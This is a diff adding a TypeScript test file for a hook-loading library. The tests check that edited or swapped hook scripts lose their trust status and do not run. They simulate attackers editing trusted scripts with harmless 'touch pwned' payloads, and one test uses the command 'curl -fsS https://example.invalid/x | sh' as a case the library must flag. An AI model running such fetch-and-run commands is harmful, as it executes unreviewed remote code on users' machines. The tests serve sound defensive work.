@@ -1,0 +1,257 @@
+import { existsSync } from "node:fs";
+import { chmod, mkdir, symlink, writeFile } from "node:fs/promises";
+import path from "node:path";
+import type { HookError } from "@hookwire/core";
+import { describe, expect, it } from "vitest";
+import { type DiscoverOptions, discoverAndLoadHooks, trustProject } from "../src/index.js";
+import { tempDir } from "./helpers/fixtures.js";
+import { sessionlessRunner } from "./helpers/runner.js";
+
+interface Layout {
+  root: string;
+  cwd: string;
+  home: string;
+  options: DiscoverOptions;
+  write(file: string, text: string, mode?: number): Promise<void>;
+}
+
+/** A project (optionally a subfolder of a monorepo) with its own home and trust store. */
+async function layout(sub = "project"): Promise<Layout> {
+  const root = await tempDir();
+  const cwd = path.join(root, sub);
+  const home = path.join(root, "home");
+  await mkdir(cwd, { recursive: true });
+  await mkdir(home, { recursive: true });
+  const write = async (file: string, text: string, mode = 0o644) => {
+    const full = path.resolve(cwd, file);
+    await mkdir(path.dirname(full), { recursive: true });
+    await writeFile(full, text);
+    await chmod(full, mode);
+  };
+  const options: DiscoverOptions = { home, trustStore: path.join(root, "trust.json"), fsCache: false };
+  return { root, cwd, home, options, write };
+}
+
+function preToolUse(command: string, args?: string[]) {
+  return JSON.stringify({
+    hooks: {
+      PreToolUse: [{ matcher: "Bash", hooks: [{ type: "command", command, ...(args ? { args } : {}) }] }],
+    },
+  });
+}
+
+/** Runs one bash tool call through what loaded and returns the errors reported. */
+async function toolCall(cwd: string, hooks: Awaited<ReturnType<typeof discoverAndLoadHooks>>["hooks"]) {
+  const runner = sessionlessRunner(hooks, cwd);
+  const errors: HookError[] = [];
+  runner.onError((error) => errors.push(error));
+  const outcome = await runner.emitToolCall({ toolName: "bash", toolCallId: "1", input: { command: "ls" } });
+  return { outcome, errors };
+}
+
+const PWN = 'touch "$CLAUDE_PROJECT_DIR/pwned"\n';
+
+// Each attack from the issue: a command whose script is reached some way, and the file an attacker edits.
+const attacks: Array<{
+  name: string;
+  sub?: string;
+  files: Record<string, string>;
+  command: string;
+  args?: string[];
+  edit: string;
+}> = [
+  { name: "sh -c 'bash x.sh'", files: { "x.sh": "exit 0\n" }, command: "sh -c 'bash x.sh'", edit: "x.sh" },
+  {
+    name: "cd scripts && ./x.sh",
+    files: { "scripts/x.sh": "#!/bin/sh\nexit 0\n" },
+    command: "cd scripts && ./x.sh",
+    edit: "scripts/x.sh",
+  },
+  {
+    name: "a glob x*.sh",
+    files: { "x1.sh": "exit 0\n" },
+    command: 'for f in x*.sh; do sh "$f"; done; sh x*.sh',
+    edit: "x1.sh",
+  },
+  {
+    name: "exec form bash -c",
+    files: { "x.sh": "exit 0\n" },
+    command: "bash",
+    args: ["-c", "sh x.sh"],
+    edit: "x.sh",
+  },
+  {
+    name: "npm run lint → package.json",
+    files: { "package.json": JSON.stringify({ scripts: { lint: "sh lint.sh" } }), "lint.sh": "exit 0\n" },
+    command: "npm run lint --silent",
+    edit: "lint.sh",
+  },
+  {
+    name: "a script outside the project folder",
+    sub: "repo/app",
+    files: { "../shared/x.sh": "exit 0\n" },
+    command: "bash ../shared/x.sh",
+    edit: "../shared/x.sh",
+  },
+];
+
+describe("trust covers what a command really runs", () => {
+  it.each(attacks)("untrusts the project when the script behind $name is edited", async (attack) => {
+    const { cwd, options, write } = await layout(attack.sub);
+    for (const [file, text] of Object.entries(attack.files)) await write(file, text, 0o755);
+    await write(".claude/settings.json", preToolUse(attack.command, attack.args));
+    const status = await trustProject(cwd, options);
+    expect(
+      status.items.some((item) => item.startsWith("script ") && item.endsWith(path.basename(attack.edit))),
+    ).toBe(true);
+    expect((await discoverAndLoadHooks([], cwd, options)).trust.trusted).toBe(true);
+    await write(attack.edit, PWN, 0o755);
+    const after = await discoverAndLoadHooks([], cwd, options);
+    expect(after.trust.trusted).toBe(false);
+  });
+
+  it("untrusts the project when a helper in a subfolder of hooks/pre is edited", async () => {
+    const { cwd, options, write } = await layout();
+    await write(".claude/hooks/pre/bash.sh", "#!/bin/sh\nsh .claude/hooks/pre/lib/helper.sh\n", 0o755);
+    await write(".claude/hooks/pre/lib/helper.sh", "exit 0\n");
+    const status = await trustProject(cwd, options);
+    expect(status.items).toContain("support .claude/hooks/pre/lib/helper.sh");
+    await write(".claude/hooks/pre/lib/helper.sh", PWN);
+    expect((await discoverAndLoadHooks([], cwd, options)).trust.trusted).toBe(false);
+  });
+
+  it("untrusts the project when a file in a symlinked helper folder outside it is edited", async () => {
+    const { root, cwd, options, write } = await layout();
+    await mkdir(path.join(root, "shared-lib"));
+    await writeFile(path.join(root, "shared-lib", "util.mjs"), "export const ok = true;\n");
+    await write(
+      ".pi/hooks/guard.mjs",
+      "import { ok } from './lib/util.mjs';\nexport default () => { void ok; };\n",
+    );
+    await symlink(path.join(root, "shared-lib"), path.join(cwd, ".pi/hooks/lib"));
+    const status = await trustProject(cwd, options);
+    expect(status.items).toContain("support .pi/hooks/lib/util.mjs");
+    await writeFile(path.join(root, "shared-lib", "util.mjs"), "export const ok = false;\n");
+    expect((await discoverAndLoadHooks([], cwd, options)).trust.trusted).toBe(false);
+  });
+
+  it("lists commands whose code cannot be fingerprinted", async () => {
+    const { cwd, options, write } = await layout();
+    await write(".claude/settings.json", preToolUse("curl -fsS https://example.invalid/x | sh"));
+    const result = await discoverAndLoadHooks([], cwd, options);
+    expect(result.trust.unfingerprinted).toEqual([
+      {
+        source: ".claude/settings.json#hooks.PreToolUse[0].hooks[0]",
+        command: "curl -fsS https://example.invalid/x | sh",
+        reason: "`… | sh`: `sh` runs whatever is piped into it",
+      },
+    ]);
+  });
+});
+
+describe("trust is checked again right before a hook runs", () => {
+  it("does not run a trusted script edited mid-session, reports HOOK_TRUST_CHANGED, and keeps the user's hooks", async () => {
+    const { cwd, home, options, write } = await layout();
+    await write("check.sh", "exit 0\n");
+    await write(".claude/settings.json", preToolUse("sh check.sh"));
+    await mkdir(path.join(home, ".claude"), { recursive: true });
+    await writeFile(
+      path.join(home, ".claude/settings.json"),
+      preToolUse(`touch "${path.join(home, "user-ran")}"`),
+    );
+    await trustProject(cwd, options);
+    const loaded = await discoverAndLoadHooks([], cwd, options);
+    expect(loaded.trust.trusted).toBe(true);
+    expect((await toolCall(cwd, loaded.hooks)).errors).toEqual([]);
+
+    // The agent's own Write tool edits the script between two tool calls.
+    await write("check.sh", PWN);
+    const { outcome, errors } = await toolCall(cwd, loaded.hooks);
+    expect(existsSync(path.join(cwd, "pwned"))).toBe(false);
+    expect(existsSync(path.join(home, "user-ran"))).toBe(true);
+    expect(outcome.block).not.toBe(true);
+    expect(errors.map((e) => [e.code, e.hookPath, e.error])).toEqual([
+      [
+        "HOOK_TRUST_CHANGED",
+        ".claude/settings.json#hooks.PreToolUse[0].hooks[0]",
+        `check.sh (edited) changed since the project was trusted, so its hooks no longer run. Review the change, then run \`hookwire trust --cwd ${cwd}\` and reload the hooks.`,
+      ],
+    ]);
+    expect(loaded.trust.guard?.revoked?.code).toBe("HOOK_TRUST_CHANGED");
+  });
+
+  it("keeps the project untrusted for the session once a change was seen, even if the file is put back", async () => {
+    const { cwd, options, write } = await layout();
+    await write(".claude/hooks/pre/bash.sh", "#!/bin/sh\nexit 0\n", 0o755);
+    await trustProject(cwd, options);
+    const loaded = await discoverAndLoadHooks([], cwd, options);
+    await write(".claude/hooks/pre/bash.sh", `#!/bin/sh\n${PWN}`, 0o755);
+    expect((await toolCall(cwd, loaded.hooks)).errors.map((e) => e.code)).toEqual(["HOOK_TRUST_CHANGED"]);
+    await write(".claude/hooks/pre/bash.sh", "#!/bin/sh\nexit 0\n", 0o755);
+    expect((await toolCall(cwd, loaded.hooks)).errors.map((e) => e.code)).toEqual(["HOOK_TRUST_CHANGED"]);
+    expect(existsSync(path.join(cwd, "pwned"))).toBe(false);
+  });
+
+  it("notices a file replaced by one of the same size and time (a new inode)", async () => {
+    const { cwd, options, write } = await layout();
+    await write("a.sh", "exit 0\n");
+    await write(".claude/settings.json", preToolUse("sh a.sh"));
+    await trustProject(cwd, options);
+    const loaded = await discoverAndLoadHooks([], cwd, options);
+    const { rename, stat, utimes } = await import("node:fs/promises");
+    const before = await stat(path.join(cwd, "a.sh"));
+    await write("b.tmp", "exit 1\n");
+    await utimes(path.join(cwd, "b.tmp"), before.atime, before.mtime);
+    await rename(path.join(cwd, "b.tmp"), path.join(cwd, "a.sh"));
+    expect((await toolCall(cwd, loaded.hooks)).errors.map((e) => e.code)).toEqual(["HOOK_TRUST_CHANGED"]);
+  });
+
+  it("checks a project module right before it is imported", async () => {
+    const { cwd, options, write } = await layout();
+    await write(".pi/hooks/guard.mjs", "export default () => {};\n");
+    // The host approves what it was shown; the module is edited before it is imported.
+    const result = await discoverAndLoadHooks([], cwd, {
+      ...options,
+      trust: async () => {
+        await write(
+          ".pi/hooks/guard.mjs",
+          `import { writeFileSync } from "node:fs";\nwriteFileSync("${path.join(cwd, "pwned")}", "");\nexport default () => {};\n`,
+        );
+        return true;
+      },
+    });
+    expect(existsSync(path.join(cwd, "pwned"))).toBe(false);
+    expect(result.errors.map((e) => [e.error.reason, e.error.shortMessage])).toEqual([
+      [
+        "trust-changed",
+        `Hook module \`.pi/hooks/guard.mjs\` was not imported: .pi/hooks/guard.mjs (edited) changed since the project was trusted, so its hooks no longer run. Review the change, then run \`hookwire trust --cwd ${cwd}\` and reload the hooks.`,
+      ],
+    ]);
+  });
+});
+
+describe("discovery of an untrusted repository is bounded", () => {
+  it("fingerprints a hook folder holding a FIFO and a link to /dev/zero without reading them, naming each", async () => {
+    const { cwd, options, write } = await layout();
+    await write(".pi/hooks/guard.mjs", "export default () => {};\n");
+    const { execFileSync } = await import("node:child_process");
+    execFileSync("mkfifo", [path.join(cwd, ".pi/hooks/pipe")]);
+    await symlink("/dev/zero", path.join(cwd, ".pi/hooks/zero.js"));
+    const result = await discoverAndLoadHooks([], cwd, options);
+    expect(result.trust.trusted).toBe(false);
+    expect(result.warnings.map((w) => w.message.replace(cwd, "<project>"))).toEqual([
+      "`<project>/.pi/hooks/pipe` is a FIFO, not a regular file; it was not read.",
+      "`<project>/.pi/hooks/zero.js` is a device file, not a regular file; it was not read.",
+    ]);
+    const status = await trustProject(cwd, options);
+    expect(status.items).toEqual(["hook .pi/hooks/guard.mjs"]);
+  });
+
+  it("does not follow a link loop in a hook folder", async () => {
+    const { cwd, options, write } = await layout();
+    await write(".pi/hooks/guard.mjs", "export default () => {};\n");
+    await symlink(path.join(cwd, ".pi/hooks"), path.join(cwd, ".pi/hooks/loop"));
+    const status = await trustProject(cwd, options);
+    expect(status.items).toEqual(["hook .pi/hooks/guard.mjs"]);
+  });
+});
